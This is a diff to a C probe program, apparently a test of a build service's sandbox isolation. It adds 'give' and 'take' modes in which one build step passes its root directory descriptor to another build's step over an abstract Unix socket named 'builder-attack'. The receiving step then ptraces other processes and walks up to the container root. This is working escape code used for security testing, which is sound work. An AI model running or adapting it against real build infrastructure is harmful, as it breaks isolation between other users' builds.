@@ -3,17 +3,21 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <netinet/in.h>
 #include <sched.h>
+#include <stddef.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/uio.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -142,8 +146,76 @@ static void disk(const char *number) {
   unlink("/tmp/disk");
 }
 
+static const struct sockaddr_un meeting = {.sun_family = AF_UNIX, .sun_path = "\0builder-attack"};
+enum { MEETING = offsetof(struct sockaddr_un, sun_path) + sizeof "\0builder-attack" - 1 };
+
+static struct sockaddr_in port(const char *number) {
+  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(number))};
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  return address;
+}
+
+// Gives its root to a step of another build, and stays as long as that has a connection to `number`.
+static int give(const char *number) {
+  struct sockaddr_in address = port(number);
+  int yes = 1, meets = socket(AF_UNIX, SOCK_STREAM, 0), listens = socket(AF_INET, SOCK_STREAM, 0);
+  setsockopt(listens, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
+  if (bind(meets, (const struct sockaddr *)&meeting, MEETING) != 0 || listen(meets, 1) != 0) return 3;
+  if (bind(listens, (struct sockaddr *)&address, sizeof address) != 0 || listen(listens, 1) != 0) return 4;
+  printf("giver: %d\n", getpid());
+  alarm(120);
+  int stays = accept(listens, NULL, NULL);
+  char byte;
+  if (read(stays, &byte, 1) != 1 || byte != 'c') return 0;
+  int peer = accept(meets, NULL, NULL), directory = open("/", O_RDONLY | O_DIRECTORY);
+  char space[CMSG_SPACE(sizeof directory)] = {0};
+  struct iovec data = {&byte, 1};
+  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
+  struct cmsghdr *header = CMSG_FIRSTHDR(&message);
+  header->cmsg_level = SOL_SOCKET;
+  header->cmsg_type = SCM_RIGHTS;
+  header->cmsg_len = CMSG_LEN(sizeof directory);
+  memcpy(CMSG_DATA(header), &directory, sizeof directory);
+  if (sendmsg(peer, &message, 0) != 1) return 5;
+  return read(stays, &byte, 1) < 0;
+}
+
+// Takes it, and goes up from there; traces whoever gave it.
+static int take(const char *number) {
+  struct sockaddr_in address = port(number);
+  int stays;
+  alarm(120);
+  for (;;) {
+    stays = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(stays, (struct sockaddr *)&address, sizeof address) == 0) break;
+    close(stays);
+    usleep(10000);
+  }
+  printf("taker: has met\n");
+  trace_others();
+  int meets = socket(AF_UNIX, SOCK_STREAM, 0);
+  if (connect(meets, (const struct sockaddr *)&meeting, MEETING) != 0) {
+    printf("taker: %s\n", strerror(errno));
+    return 0;
+  }
+  if (write(stays, "c", 1) != 1) return 3;
+  int directory = -1;
+  char byte, space[CMSG_SPACE(sizeof directory)] = {0};
+  struct iovec data = {&byte, 1};
+  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
+  if (recvmsg(meets, &message, 0) != 1 || !CMSG_FIRSTHDR(&message)) return 4;
+  memcpy(&directory, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof directory);
+  if (fchdir(directory) != 0) return 5;
+  printf("seen: the root of another step\n");
+  for (int step = 0; step < 64; step++) chdir("..");
+  if (access("usr/local/bin/builder", F_OK) == 0) printf("seen: the root of the container, by way of another step\n");
+  return 0;
+}
+
 int main(int count, char **words) {
   setvbuf(stdout, NULL, _IOLBF, 0);
+  if (count > 2 && strcmp(words[1], "give") == 0) return give(words[2]);
+  if (count > 2 && strcmp(words[1], "take") == 0) return take(words[2]);
   trace_others();
   mounts();
   if (count > 1) disk(words[1]);
